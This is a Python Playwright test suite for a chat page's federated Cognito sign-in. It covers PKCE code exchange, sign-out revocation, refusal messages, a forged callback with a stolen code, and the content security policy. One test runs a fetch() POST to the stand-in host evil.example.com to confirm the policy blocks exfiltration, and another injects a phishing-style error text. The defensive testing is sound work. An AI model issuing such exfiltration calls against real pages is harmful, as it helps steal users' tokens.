"""Signing in at another directory, in a real Chromium that is answered from here."""

from __future__ import annotations

import base64
import hashlib
import json
from collections.abc import Iterator
from typing import TYPE_CHECKING, Any
from urllib.parse import parse_qs, urlsplit

import pytest
from playwright.sync_api import expect

from genai_layers.web import PageConfig, PageFederation, media_type, page_files, security_headers

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page, Route

pytestmark = pytest.mark.tool

HOST = "sign-in-1.auth.eu-central-1.amazoncognito.com"
PAGE = "https://chat.example.com/"
COGNITO = "https://cognito-idp.eu-central-1.amazonaws.com"
CONFIG = PageConfig(
    user_pool_id="eu-central-1_EXAMPLE12",
    client_id="own",
    sign_in_url=f"{COGNITO}/",
    federation=PageFederation(
        host=HOST, client_id="theirs", scope="openid email api/person", providers={"Company": "Company account"}
    ),
)


class Internet:
    """Answers the page's files, the other directory and the API; remembers what it was asked."""

    def __init__(self) -> None:
        self.refusal = ""
        self.codes: list[dict[str, str]] = []
        self.challenge = ""
        self.tokens: list[str] = []
        self.revoked: list[str] = []
        self.complaints: list[str] = []

    def answer(self, route: Route) -> None:
        """Answer one request."""
        address = urlsplit(route.request.url)
        if address.netloc == HOST:
            self._elsewhere(route, address.path, {name: one[0] for name, one in parse_qs(address.query).items()})
        elif address.path == "/config.json":
            route.fulfill(body=CONFIG.json(), content_type="application/json")
        elif address.path in ("/v1/models", "/conversations", "/usage"):
            self.tokens.append(route.request.headers.get("authorization", ""))
            route.fulfill(json={"data": [{"id": "nova"}], "conversations": [], "budgets": []})
        else:
            path = "/index.html" if address.path == "/" else address.path
            headers = {**security_headers(COGNITO, f"https://{HOST}"), "content-type": media_type(path)}
            route.fulfill(body=page_files()[path], headers=headers)

    def _elsewhere(self, route: Route, path: str, query: dict[str, str]) -> None:
        allowed = {"access-control-allow-origin": PAGE.rstrip("/")}
        form = {name: one[0] for name, one in parse_qs(route.request.post_data or "").items()}
        if path == "/oauth2/authorize":
            self.challenge = query["code_challenge"]
            back = self.refusal or "code=c"
            address = json.dumps(f"{query['redirect_uri']}?{back}&state={query['state']}")
            route.fulfill(body=f"<script>location.replace({address})</script>", content_type="text/html")
        elif path == "/oauth2/token":
            self.codes.append(form)
            claims = base64.urlsafe_b64encode(json.dumps({"email": "ada@company.example"}).encode()).decode()
            token = {"access_token": "theirs-1", "refresh_token": "r", "expires_in": 900, "id_token": f"h.{claims}.s"}
            route.fulfill(json=token, headers=allowed)
        else:
            self.revoked.append(form["token"])
            route.fulfill(body="", headers=allowed)


@pytest.fixture
def internet() -> Internet:
    """All that the browser can reach."""
    return Internet()


@pytest.fixture
def page(browser: Browser, internet: Internet) -> Iterator[Page]:
    """The page, with whatever the browser complained about."""
    context = browser.new_context()
    made = context.new_page()
    complaints = internet.complaints
    made.on("console", lambda said: complaints.append(said.text) if said.type == "error" else None)
    made.on("pageerror", lambda error: complaints.append(str(error)))
    context.route("**/*", internet.answer)
    made.goto(PAGE)
    yield made
    context.close()
    assert complaints == []


def test_a_person_of_another_directory_gets_in_and_out(page: Page, internet: Internet) -> None:
    """There and back, the code given back with the secret of the tab, nothing left in the address."""
    page.get_by_role("button", name="Sign in with Company account").click()
    expect(page.get_by_label("Your question")).to_be_visible()

    expect(page.get_by_text("ada@company.example")).to_be_visible()
    assert page.url == PAGE
    (given,) = internet.codes
    digest = hashlib.sha256(given["code_verifier"].encode()).digest()
    assert base64.urlsafe_b64encode(digest).decode().rstrip("=") == internet.challenge
    assert set(internet.tokens) == {"Bearer theirs-1"}

    page.reload()
    expect(page.get_by_label("Your question")).to_be_visible()
    page.get_by_role("button", name="Sign out").click()
    expect(page.get_by_label("E-mail")).to_be_visible()
    page.reload()
    expect(page.get_by_label("E-mail")).to_be_visible()
    assert internet.revoked == ["r"]


def test_a_refusal_is_told_in_our_words(page: Page, internet: Internet) -> None:
    """The person reads what to do; the text of the address is not shown."""
    internet.refusal = "error=access_denied&error_description=Call+this+number"
    page.get_by_role("button", name="Sign in with Company account").click()

    expect(page.get_by_role("alert")).to_contain_text("has to use a second factor")
    assert "Call this number" not in page.content()
    assert page.url == PAGE


def test_an_address_that_this_tab_did_not_ask_for_changes_nothing(page: Page, internet: Internet) -> None:
    """Somebody else's code would sign the person in to somebody else's account."""
    page.goto(f"{PAGE}?code=stolen&state=guessed&error_description=Call+this+number")

    expect(page.get_by_label("E-mail")).to_be_visible()
    assert "Call this number" not in page.content()
    assert internet.codes == []


def test_the_policy_names_the_other_directory_and_nobody_else(page: Page, internet: Internet) -> None:
    """A script that tried could send a token nowhere else."""
    outcome: Any = page.evaluate(
        "fetch('https://evil.example.com/', {method: 'POST', body: 'x'}).then(() => 'sent', () => 'refused')"
    )

    assert outcome == "refused"
    assert internet.complaints
    assert [said for said in internet.complaints if "violates" in said and f"https://{HOST}" in said]
    internet.complaints.clear()
